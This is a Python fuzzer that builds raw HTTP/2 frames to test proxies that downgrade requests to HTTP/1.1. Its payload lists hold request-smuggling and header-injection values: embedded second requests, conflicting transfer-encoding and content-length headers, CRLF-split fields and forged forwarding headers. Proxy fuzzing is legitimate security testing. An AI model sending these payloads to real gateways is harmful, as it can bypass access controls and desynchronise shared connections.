"""HTTP/2 requests with what HTTP/1.1 would break on, as frames written by hand: for proxies that turn one into the other.

mutant(seed, n) is always the same bytes for the same numbers."""
import random
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = bytes([most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def field(name, value):
    """Literal, never indexed, not Huffman-coded: any byte goes."""
    return b"\x10" + number(len(name), 7) + name + number(len(value), 7) + value


def request(fields, body=None, stream=1, pieces=1):
    block = b"".join(field(name, value) for name, value in fields)
    head = frame(HEADERS, END_HEADERS | (END_STREAM if body is None else 0), stream, block)
    if body is None:
        return head
    size = max(1, -(-len(body) // pieces))
    parts = [body[i:i + size] for i in range(0, len(body), size)] or [b""]
    return head + b"".join(frame(DATA, END_STREAM if i == len(parts) - 1 else 0, stream, part) for i, part in enumerate(parts))


SMUGGLED = [b"GET /inside HTTP/1.1\r\nHost: gateway.example\r\n\r\n", b"0\r\n\r\nGET /inside HTTP/1.1\r\nHost: gateway.example\r\nX: ", b"hello", b"",
            b"5\r\nhello\r\n0\r\n\r\n", b"GET /inside HTTP/1.1\r\nX: "]
METHODS = [b"GET", b"POST", b"HEAD", b"PUT", b"CONNECT", b"TRACE", b"get", b"GET /inside HTTP/1.1\r\nHost: a\r\n\r\nGET", b"GET ", b"", b"P\0ST", b"G\xc3\x8bT"]
PATHS = [b"/seen", b"/deny", b"/empty", b"/stream", b"/last", b"/seen?a=b", b"/seen HTTP/1.1\r\nHost: gateway.example\r\n\r\nGET /inside", b"/seen /x", b"/seen\tx",
         b"seen", b"*", b"", b"/seen\0", b"/seen#a", b"http://other.example/seen", b"//seen", b"/seen\r\nX: y", b"/seen\nX: y", b"/se\xc3\xa9n", b"/seen/../deny",
         b"/%73een", b"/" + b"a" * 2100]
AUTHORITIES = [b"gateway.example", b"gateway.example:80", b"", b"gateway.example\r\nX: y", b"a@gateway.example", b"gateway.example/inside", b"gateway example",
               b"other.example", b"gateway.example, other.example", b"gateway.example\0", b"[::1]", b"gateway.example\r\n\r\nGET /inside HTTP/1.1\r\nHost: a"]
SCHEMES = [b"http", b"https", b"ftp", b"http://gateway.example/inside?", b"", b"http\r\nX: y"]
OTHERS = [(b"transfer-encoding", b"chunked"), (b"transfer-encoding", b" chunked"), (b"Transfer-Encoding", b"chunked"), (b"transfer-encoding", b"identity"),
          (b"transfer-encoding ", b"chunked"), (b"transfer-encoding", b"\x0bchunked"), (b"content-length", b"0"), (b"content-length", b"5"),
          (b"content-length", b"+5"), (b"content-length", b"5, 5"), (b"content-length", b"300"), (b"content-length", b"05"), (b"content-length", b""),
          (b"content-length", b"-1"), (b"connection", b"close"), (b"connection", b"content-length"), (b"connection", b"keep-alive"), (b"upgrade", b"h2c"),
          (b"host", b"other.example"), (b"host", b"gateway.example"), (b"x", b"y\r\nTransfer-Encoding: chunked"), (b"x", b"y\r\n\r\nGET /inside HTTP/1.1\r\nHost: a\r\n\r\n"),
          (b"x", b"y\nContent-Length: 0"), (b"x", b"y\rContent-Length: 0"), (b"x", b"y\0z"), (b"x\r\ntransfer-encoding: chunked\r\ny", b"z"), (b"x: y\r\nz", b"a"),
          (b"x y", b"z"), (b"x:", b"y"), (b"", b"y"), (b":", b"y"), (b":x", b"y"), (b"X", b"y"), (b"x\n", b"y"), (b":method", b"PUT"), (b":path", b"/inside"),
          (b":authority", b"other.example"), (b":scheme", b"https"), (b":status", b"200"), (b"te", b"trailers"), (b"te", b"chunked"), (b"expect", b"100-continue"),
          (b"x-proxy-id", b"forged"), (b"x-forwarded-for", b"127.0.0.1"), (b"cookie", b"a=b"), (b"cookie", b"c=d"), (b"x", b" y "), (b"x", b"\x7f"), (b"x", b"\xff"),
          (b"content_length", b"5"), (b"trailer", b"x"), (b"http2-settings", b"AAMAAABkAAQAAP__")]


def mutant(seed, n):
    """The frames of one stream, the first of its connection."""
    chance = random.Random(f"h2/{seed}/{n}")
    odd = chance.random
    fields = [(b":method", chance.choice(METHODS) if odd() < 0.2 else b"POST"), (b":scheme", chance.choice(SCHEMES) if odd() < 0.1 else b"http"),
              (b":path", chance.choice(PATHS) if odd() < 0.3 else b"/seen"), (b":authority", chance.choice(AUTHORITIES) if odd() < 0.2 else b"gateway.example")]
    body = chance.choice(SMUGGLED) if odd() < 0.8 else None
    for _ in range(chance.choice([0, 1, 1, 2, 3])):
        fields.append(chance.choice(OTHERS))
    if body is not None and odd() < 0.4:
        fields.append((b"content-length", b"%d" % (len(body) + chance.choice([0, 0, -1, 1, 5]))))
    if odd() < 0.1:
        chance.shuffle(fields)
    if odd() < 0.1:
        del fields[chance.randrange(len(fields))]
    data = request(fields, body, pieces=chance.choice([1, 1, 2, 5]))
    if body is not None and odd() < 0.1:		# trailers
        data += frame(HEADERS, END_HEADERS | END_STREAM, 1, field(*chance.choice(OTHERS)))
    return data
